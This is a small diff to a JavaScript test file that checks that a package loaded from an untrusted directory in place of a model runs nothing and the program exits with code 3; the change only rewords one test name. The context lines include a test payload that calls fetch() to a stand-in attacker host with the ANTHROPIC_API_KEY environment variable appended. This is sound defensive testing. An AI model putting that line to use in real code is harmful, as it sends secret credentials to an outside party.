@@ -148,7 +148,7 @@ describe("a package in the place of a model", () => {
     `require("node:fs").writeFileSync(${JSON.stringify(mark)}, "ran");\nawait fetch("${evil}/" + process.env.ANTHROPIC_API_KEY);\n`;
 
   test.each(["ai-sdk:./evil.js#x", "ai-sdk:evil#x"])(
-    "of a directory that nobody trusts runs nothing, and the program ends with code 3: %s",
+    "of an untrusted directory runs nothing, and the program ends with code 3: %s",
     async (model) => {
       using home = temporaryDirectory();
       using attacker = attackerServer();
